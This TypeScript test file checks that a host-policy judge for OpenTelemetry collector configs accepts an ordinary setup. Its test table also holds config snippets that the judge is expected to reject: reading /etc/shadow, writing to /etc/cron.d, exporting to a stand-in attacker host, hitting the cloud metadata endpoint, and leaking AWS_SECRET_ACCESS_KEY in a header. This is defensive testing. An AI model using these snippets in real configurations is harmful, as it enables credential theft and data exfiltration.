import { readFileSync } from 'node:fs';
import { parseCollectorConfig } from '@drover/collector-config';
import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { policyInFile, toHostPolicy } from '../settings/policy-file.ts';
import { configJudge } from './judge-config.ts';

const GUIDE = new URL('../../../../docs/guides/host-policy.md', import.meta.url);
const [, yaml = ''] = /```yaml\n(policy:.*?)```/s.exec(readFileSync(GUIDE, 'utf8')) ?? [];
const judge = configJudge(
  [{ path: 'policy', policy: toHostPolicy(policyInFile.parse(parse(yaml).policy)) }],
  {
    environment: { OTEL_TOKEN: 'x' },
    workingFolder: '/',
    isSetAtStart: () => false,
    realPath: (path) => path,
  },
);

function rules(text: string): string[] {
  const parsed = parseCollectorConfig(text);
  if (parsed.kind === 'invalid') throw new Error(JSON.stringify(parsed.findings));
  return judge.violations(parsed.data, {}).map(({ rule }) => rule);
}

test("the guide's policy lets an ordinary configuration run", () => {
  expect(
    rules(`
receivers:
  otlp: {protocols: {grpc: {endpoint: 0.0.0.0:4317}, http: {endpoint: 0.0.0.0:4318, traces_url_path: /v1/traces}}}
  hostmetrics: {collection_interval: 10s, scrapers: {cpu: , memory: , filesystem: {exclude_mount_points: {mount_points: [/dev/*], match_type: strict}}}}
  filelog:
    include: [/var/log/*.log, /var/log/nginx/**/*.log]
    storage: file_storage
    operators: [{type: regex_parser, regex: '^(?P<time>\\S+) (?P<msg>.*)$'}]
  prometheus: {config: {scrape_configs: [{job_name: self, metrics_path: /metrics, static_configs: [{targets: ['localhost:8888']}]}]}}
processors:
  attributes/route: {actions: [{key: http.route, value: /health, action: insert}]}
  filter/noise: {logs: {log_record: ['attributes["url.path"] == "/healthz"']}}
  batch: {timeout: 5s}
exporters:
  otlp_http: {endpoint: https://in.telemetry.example.com, headers: {authorization: 'Bearer \${file:/run/secrets/otel/token}'}, tls: {ca_file: /etc/ssl/certs/ca.pem}}
extensions:
  file_storage: {directory: /var/lib/otelcol/storage}
  health_check: {endpoint: 127.0.0.1:13133, path: /health}
service:
  extensions: [health_check, file_storage]
  telemetry: {logs: {level: info, output_paths: [stderr]}, metrics: {readers: [{pull: {exporter: {prometheus: {host: 127.0.0.1, port: 8888}}}}]}}
  pipelines: {logs: {receivers: [filelog], processors: [batch], exporters: [otlp_http]}}
`),
  ).toEqual([]);
});

test.each([
  ['receivers: {file_log: {include: [/etc/shadow]}}', 'policy.files.read.allow'],
  ['receivers: {file_log: {include: [/var/log/audit/audit.log]}}', 'policy.files.read.deny[0]'],
  ['receivers: {file_log: {include: [/var/log/**]}}', 'policy.files.read.deny[0]'],
  ['exporters: {file: {path: /etc/cron.d/x}}', 'policy.exporters.allow'],
  ['service: {telemetry: {logs: {output_paths: [/etc/cron.d/x]}}}', 'policy.files.write.allow'],
  ['exporters: {otlp: {endpoint: "evil.example.net:443"}}', 'policy.endpoints.allow'],
  ['exporters: {otlp_http: {endpoint: "http://169.254.169.254/latest"}}', 'policy.endpoints.deny[0]'],
  ['exporters: {otlp_http: {headers: {x: "${env:AWS_SECRET_ACCESS_KEY}"}}}', 'policy.environment.allow'],
  ['extensions: {pprof: }', 'policy.extensions.allow'],
  ['extensions: {opamp/2: {server: {ws: {endpoint: "wss://evil.example.net/"}}}}', 'policy.extensions.allow'],
  ['receivers: {jmx: }', 'policy.receivers.allow'],
  ['processors: {geoip: {providers: {maxmind: {database_path: /etc/shadow}}}}', 'policy.processors.allow'],
  ['processors: {tail_sampling: {x: /etc/shadow}}', 'policy.files.read.allow'],
  ['receivers: "${https://evil.example.net/all.yaml}"', 'policy'],
])('and refuses %s', (text, rule) => {
  expect(rules(text)[0]).toBe(rule);
});
